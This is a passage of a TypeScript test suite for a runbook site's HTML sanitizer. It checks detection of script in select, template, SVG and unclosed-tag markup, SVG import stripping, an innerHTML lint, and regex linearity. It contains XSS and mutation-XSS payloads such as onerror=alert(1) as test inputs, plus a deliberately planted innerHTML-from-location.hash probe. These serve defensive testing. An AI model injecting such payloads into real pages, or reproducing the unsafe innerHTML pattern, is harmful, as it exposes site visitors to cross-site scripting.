      '<select><img src=x onerror=alert(1)></select>',
      '<select><col><img src=x onerror=alert(1)>',
      '<select><style></select><svg></style><![CDATA[><img src=x onerror=alert(1)>',
      '<select><title></select><svg></title><![CDATA[><img src=x onerror=alert(1)>',
      '<select><svg><select><title><img src=x onerror=alert(1)>',
      '<SELECT name="v"><option>a</option><div onclick="x">y</div></select>',
      '<select name="v"><option value="a">a</option>',
      `<select${' '.repeat(5000)}>`,
    ])
      expect(scriptInBody(wrap(body)), body).toBe(
        'a <select> holding more than plain options (browsers disagree on what markup inside one means, and Chromium runs it) (page line 1)',
      );
    // The shapes the site writes: its variables form and Starlight's theme picker.
    for (const body of [
      '<select name="region" data-var-input>\n<option value="eu">eu</option>\n<option value="us" selected>us</option>\n</select>',
      '<select class="astro-x"><option value="dark" class="astro-x">Dark</option><option value="auto" selected class="astro-x">Auto &amp; more</option></select>',
      '<p>Pick one in the &lt;select&gt; menu</p>',
    ])
      expect(scriptInBody(wrap(body)), body).toBeUndefined();
  });

  it('judges what a <template> in the body holds, which hast keeps apart from its children', () => {
    expect(scriptInBody(wrap('<template><img src=x onerror=alert(1)></template>'))).toContain(
      'the onerror attribute on <img> runs script',
    );
    expect(scriptInWholePage(wrap('<p>x</p><template><script>alert(1)</script></template>'))).toContain('<script>');
    expect(scriptInBody(wrap('<template><p>fine</p></template>'))).toBeUndefined();
  });

  it("judges the body to the end of the page, past a footer the body made or one that swallowed the template's", () => {
    // An unclosed tag at the body's end takes the template's closing </div> as attributes
    // and holds the page's footer; a <footer> of the body's own comes before the template's.
    expect(scriptInBody(wrap('<a onmouseover=alert(1) '))).toContain('the onmouseover attribute on <a> runs script');
    expect(scriptInBody(wrap('<footer></footer><img src="x" onerror="alert(1)">'))).toContain(
      'the onerror attribute on <img> runs script',
    );
    expect(scriptInBody(wrap('<svg><footer/></svg><p onclick="x">y</p>'))).toContain('onclick');
    // After the page's own footer too.
    expect(
      scriptInBody(
        '<html><body><div class="sl-markdown-content"><p>fine</p></div><footer>x</footer><img src="x" onerror="alert(1)"></body></html>',
      ),
    ).toContain('onerror');
  });

  it('reads 900 KB of what made the old pre-filter quadratic in linear time, and refuses what is too deep to judge', () => {
    // An even number of `<a href="x` leaves one <a> open with stray attributes, holding the
    // page's own footer: judged (a scan that stopped at the footer never saw it).
    const verdicts: [string, string | undefined][] = [
      ['="a&', undefined],
      [' on=', undefined],
      ['<a href="x', 'the x<a attribute on <a> is not on the allow-list'],
      ['<p title="a&amp;">x</p>', undefined],
    ];
    for (const [unit, verdict] of verdicts) {
      const body = unit.repeat(2 * Math.floor(450_000 / unit.length));
      const t = performance.now();
      if (verdict) expect(scriptInBody(wrap(body)), unit).toContain(verdict);
      else expect(scriptInBody(wrap(body)), unit).toBeUndefined();
      expect(performance.now() - t, unit).toBeLessThan(15_000);
    }
    expect(scriptInBody(wrap('<i>'.repeat(20_000)))).toContain('nested too deeply to check');
    expect(refuseSvg(`<svg>${'<g>'.repeat(20_000)}</svg>`)[0].why).toContain('nested too deeply');
  }, 120_000);
});

describe('runbook import of an SVG with script', () => {
  it('imports it without the script, and says so in the report', async () => {
    const site = fixtureProject({});
    const source = join(site, 'legacy');
    mkdirSync(source, { recursive: true });
    writeFileSync(join(source, 'Page.md'), '# Page\n\n![flow](flow.svg)\n');
    writeFileSync(
      join(source, 'flow.svg'),
      '<svg xmlns="http://www.w3.org/2000/svg"><rect width="4" height="4" onclick="alert(1)"/><script>alert(2)</script></svg>\n',
    );
    const r = await cli(['import', 'legacy', '--owner', '@ops-team', '--into', 'src/content/runbooks/legacy'], site, {
      now: new Date('2026-11-30T12:00:00Z'),
    });
    expect(r.code, r.err).toBe(0);
    const svg = readFileSync(join(site, 'src/content/runbooks/legacy/flow.svg'), 'utf8');
    expect(svg).toContain('<rect width="4" height="4"></rect>');
    expect(svg).not.toMatch(/script|onclick/);
    expect(refuseSvg(svg)).toEqual([]);
    expect(readFileSync(join(site, '.runbook/import-report.md'), 'utf8')).toContain(
      '- flow.svg: imported without what the HTML policy refuses in an SVG (2 elements or attributes; the first: the onclick attribute on <rect> runs script, line 1)',
    );
    rmSync(site, { recursive: true, force: true });
  }, 60_000);
});

describe('the lint that keeps page text out of markup in client code', () => {
  it('fails on a planted innerHTML assignment in a client script, and passes on ours', async () => {
    const eslint = new ESLint({ cwd: ROOT });
    const dir = mkdtempSync(join(ROOT, 'src/plugins/lint-probe-'));
    try {
      const probe = join(dir, 'client', 'probe.ts');
      mkdirSync(join(dir, 'client'));
      writeFileSync(
        probe,
        'const el: HTMLElement = document.body;\nconst x: string = location.hash;\nel.innerHTML = x;\n',
      );
      const [result] = await eslint.lintFiles([probe]);
      expect(result.messages.map((m) => [m.line, m.ruleId])).toEqual([
        [3, 'no-unsanitized/property'],
        [3, 'no-restricted-syntax'],
      ]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
    const ours = await eslint.lintFiles(['src/**/client/**/*.ts', 'src/**/*.astro']);
    expect(ours.flatMap((r) => r.messages.map((m) => `${r.filePath}:${m.line} ${m.message}`))).toEqual([]);
  }, 120_000);
});

describe("the post-build scan on the site's own markup", () => {
  it('admits the ids and classes our renderers give the body (step anchors, the variables form)', () => {
    const body =
      '<form data-rb-vars><div data-var="HOST"><input id="var-HOST" name="HOST" data-var-input></div></form><div class="rb-snippet" id="rb-check" data-code="df -h"><a class="rb-snippet__anchor" href="#rb-check" aria-label="Link">#</a></div>';
    expect(
      scriptInBody(`<html><body><div class="sl-markdown-content">${body}</div><footer></footer></body></html>`),
    ).toBeUndefined();
  });
});

describe('anchors a runbook defines', () => {
  it("plain slugs (digits and letters of any script) pass; ids in the site's namespaces do not", () => {
    expect(check('<a id="02-min-acknowledge"></a> <h2 id="schritt-über">x</h2> <a name="old-style"></a>')).toEqual([]);
    for (const id of ['rb-check', 'qj-input', 'var-HOST', 'starlight__on-this-page', 'user-content-fn-1', '_top'])
      expect(check(`<span id="${id}">x</span>`)[0]?.message, id).toContain('the id attribute on <span>');
  });
});

describe("the policy's own patterns", () => {
  it("are linear by recheck's analysis", async () => {
    const { checkSync } = await import('recheck');
    const policy = readFileSync(join(ROOT, 'src/plugins/html/policy.ts'), 'utf8');
    const rendered = readFileSync(join(ROOT, 'src/plugins/html/rendered.ts'), 'utf8');
    const sources = [
      ...`${policy}\n${rendered}`.matchAll(/^const (IMAGE_URL|ANCHOR|BUNDLE) = \/(.+)\/([a-z]*);$/gm),
    ].map((m) => [m[2], m[3]] as const);
    expect(sources).toHaveLength(3);
    for (const [source, flags] of sources)
      expect(checkSync(source, flags, { timeout: 10_000 }).status, source).toBe('safe');
  }, 60_000);
});
